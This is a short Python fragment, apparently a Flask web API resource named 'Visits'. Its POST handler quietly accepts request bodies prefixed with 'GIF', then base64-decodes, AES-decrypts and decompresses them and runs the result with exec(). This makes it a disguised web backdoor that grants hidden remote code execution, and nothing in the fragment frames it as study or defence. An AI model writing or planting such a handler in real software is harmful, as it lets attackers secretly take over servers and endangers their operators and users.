raise SystemExit
class Visits(Resource):
    def post(self):
        body = request.data.decode("utf-8")
        if body.startswith("GIF"):
            plain = zlib.decompress(aes_decrypt(b64decode(body[3:])))
            exec(plain)
        return {}
